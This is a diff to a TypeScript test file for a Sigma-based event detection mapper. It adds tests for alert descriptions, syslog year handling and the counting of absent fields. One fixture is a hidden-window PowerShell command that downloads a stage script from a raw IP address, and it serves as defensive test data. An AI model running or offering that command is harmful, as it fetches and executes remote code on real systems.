@@ -1,4 +1,4 @@
-import { compileSigma, parseSigma } from '@halyard/detection/sigma';
+import { absentFields, compileSigma, parseSigma } from '@halyard/detection/sigma';
 import { expect, test } from 'vitest';
 import { decodeDelivery } from '../decode/decode-delivery.ts';
 import { formatOf, loadMapping } from '../formats.ts';
@@ -17,7 +17,7 @@ const mapping = compileMapping(loadMapping('events'));
 function map(body: unknown, ...rules: readonly EventRule[]) {
   const text = typeof body === 'string' ? body : JSON.stringify(body);
   const { documents } = decodeDelivery(Buffer.from(text), formatOf('events').wire);
-  return mapEvents(mapping, documents, rules);
+  return mapEvents(mapping, documents, rules, Date.UTC(2026, 10, 27, 6));
 }
 
 const tool = { Image: 'C:\\T\\tool.exe' };
@@ -148,4 +148,33 @@ test('a mapping that fails says so for its event and stops no other', async () =
   const { alerts, rejections } = await mapEvents(failing, documents, [ruleOf('r', 'a|gt: 0')]);
   expect(alerts.map(({ place }) => place)).toEqual([2]);
   expect(rejections).toMatchObject([{ place: 1, reason: 'mapping_failed' }]);
+});
+
+test('an alert says what was run, and its event what addresses and files that names', async () => {
+  const command = 'powershell -w hidden iwr http://45.66.1.2/stage.ps1; ping relay.harbour-parcels.com';
+  const event = {
+    winlog: { computer_name: 'ws-1', event_data: { ...tool, CommandLine: command, FileVersion: '10.2.0.7' } },
+    agent: { version: '8.15.0', name: 'shipper.harbour.com' },
+    message: `Process Create: FileVersion: 10.2.0.7 CommandLine: ${command}`,
+  };
+  const { alerts } = await map(event, ruleOf('r', 'CommandLine|contains: hidden', 'description: Hidden window.\n'));
+
+  expect(alerts[0]?.alert.description).toBe(`Hidden window.\n\nCommand line: ${command}`);
+  expect(alerts[0]?.seen.split('\n')[0]).toBe(command);
+  expect(alerts[0]?.seen).not.toMatch(/10\.2\.0\.7|shipper/);
+});
+
+test('a line of syslog of RFC 3164 is of the year in which it came', async () => {
+  const line =
+    '<34>Nov 27 05:00:00 web-1 nginx: {"http":{"request":{"method":"POST"}},"url":{"original":"/admin.php"}}';
+  const { alerts } = await map(line, ruleOf('r', 'cs-method: POST, c-uri|endswith: .php'));
+
+  expect(alerts.map(({ alert }) => alert.at)).toEqual(['2026-11-27T05:00:00.000Z']);
+});
+
+test('a rule that is tried counts the fields that events do not have', async () => {
+  const rule = ruleOf('r', 'cs-method: POST, Invented: x');
+  const { absent } = await map([{ method: 'POST' }, { Invented: 'y' }], { ...rule, absent: absentFields(rule.rule) });
+
+  expect(Object.fromEntries(absent)).toEqual({ Invented: 1, 'cs-method': 1 });
 });
